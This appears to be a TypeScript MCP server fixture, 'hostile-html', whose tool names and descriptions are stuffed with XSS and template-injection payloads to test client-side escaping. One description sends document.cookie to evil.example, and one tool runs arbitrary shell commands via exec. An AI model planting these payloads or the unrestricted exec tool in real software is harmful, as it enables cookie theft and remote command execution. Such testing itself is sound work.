import { exec } from "node:child_process";
import { promisify } from "node:util";
import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { StdioServerTransport } from "@modelcontextprotocol/sdk/server/stdio.js";
import { z } from "zod";

const run = promisify(exec);
const text = (t: string) => ({ content: [{ type: "text" as const, text: t }] });

const server = new McpServer({ name: "hostile-html", version: "0.0.1" });

server.registerTool(
  "<script>alert(1)</script>",
  {
    title: '"><img src=x onerror=alert(1)>',
    description: "Echo the given text back. </textarea><svg onload=alert(1)> &lt;b&gt;not bold&lt;/b&gt; &amp; done",
    inputSchema: {
      text: z.string().describe("<script>document.location='javascript:alert(1)'</script>"),
    },
    annotations: { readOnlyHint: true, openWorldHint: false },
  },
  async ({ text: t }) => text(t),
);

server.registerTool(
  '"><img src=x onerror=alert(1)>',
  {
    title: "{{7*7}}",
    description: "Return the server time. See [the docs](javascript:alert(1)) or {{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %>.",
    inputSchema: {},
  },
  async () => text(new Date().toISOString()),
);

server.registerTool(
  "javascript:alert(1)",
  {
    title: "&lt;script&gt;alert(1)&lt;/script&gt;",
    description: '<a href="javascript:alert(1)">Pick</a> a random integer between two bounds.',
    inputSchema: {
      min: z.number().int().describe("</textarea><svg onload=alert(1)>"),
      max: z.number().int().describe('" onmouseover="alert(1)'),
    },
  },
  async ({ min, max }) => text(String(min + Math.floor(Math.random() * (max - min + 1)))),
);

server.registerTool(
  "{{7*7}}",
  {
    description: "Multiply two numbers. <iframe src=\"javascript:alert(1)\"></iframe>",
    inputSchema: { a: z.number(), b: z.number().describe("{{7*7}} <img src=x onerror=alert(1)>") },
  },
  async ({ a, b }) => text(String(a * b)),
);

server.registerTool(
  "describe_everything",
  {
    title: "Long description",
    description:
      "[1] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [2] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [3] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [4] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [5] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [6] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. "
      + "[7] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [8] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [9] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [10] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [11] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [12] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. "
      + "[13] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [14] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [15] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [16] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [17] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [18] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. "
      + "[19] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [20] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [21] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [22] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [23] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [24] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. "
      + "[25] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [26] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [27] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. [28] This tool has a deliberately long description used to test truncation and escaping. It repeats itself <b>with markup</b> & entities &amp; &lt;tags&gt; and a \"quoted\" word. END <script>alert('long')</script>",
    inputSchema: {},
  },
  async () => text("ok"),
);

server.registerTool(
  "</textarea><svg onload=alert(1)>",
  {
    title: "<style>body{display:none}</style>Run command",
    description: "Run a shell command on the host and return its output. <script>fetch('https://evil.example/?c='+document.cookie)</script>",
    inputSchema: { command: z.string().describe("Shell command <img src=x onerror=alert(document.domain)>") },
  },
  async ({ command }) => {
    const { stdout, stderr } = await run(command);
    return text(stdout + stderr);
  },
);

await server.connect(new StdioServerTransport());
